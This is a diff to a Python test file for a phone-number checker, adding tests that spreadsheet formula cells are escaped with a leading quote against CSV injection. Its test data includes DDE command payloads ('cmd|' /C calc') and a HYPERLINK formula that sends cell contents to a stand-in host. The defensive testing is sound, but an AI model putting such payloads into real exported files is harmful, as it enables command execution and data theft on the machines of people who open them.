@@ -92,6 +92,34 @@ def test_a_very_long_cell_is_echoed_cut() -> None:
     assert len(result.input) == numbercheck.MAX_ECHOED_INPUT + 1
 
 
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("https://x.invalid/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "\uff1d1+1",  # a full-width =
+        "+62 812-3456-7890",  # a real number, but a + followed by more than digits
+    ],
+)
+def test_cells_a_spreadsheet_would_run_are_echoed_with_a_leading_quote(cell: str) -> None:
+    """OWASP's CSV injection rule: a cell that starts a formula gets a ' before it."""
+    source = io.StringIO(newline="")
+    csv.writer(source).writerow([cell])
+    rows, _ = check_text(source.getvalue())
+    assert [row["input"] for row in rows] == ["'" + cell]
+    for value in rows[0].values():
+        assert not value.startswith(numbercheck.FORMULA_STARTS) or value[1:].isdigit()
+
+
+def test_a_plus_and_digits_alone_are_left_as_they_are() -> None:
+    rows, _ = check_text(f"{MOBILE}\n+6212\n")
+    assert [(row["input"], row["e164"]) for row in rows] == [(MOBILE, MOBILE), ("+6212", "")]
+
+
 # -- the file ----------------------------------------------------------------
 
 
@@ -347,6 +375,8 @@ def test_a_hundred_thousand_numbers_are_counted_exactly(
     )
     with report.open(newline="", encoding="utf-8") as file:
         rows = [(row["input"], row["reason"] or row["type"]) for row in csv.DictReader(file)]
-    assert rows == numbers
+    # Input cells a spreadsheet would read as a formula come back with a leading quote.
+    assert rows == [(numbercheck.spreadsheet_safe(typed), kind) for typed, kind in numbers]
+    assert sum(typed.startswith("+62 ") for typed, _ in numbers) > 10_000
     with capsys.disabled():
         print(f"\n100,000 numbers checked in {elapsed:.2f} s")
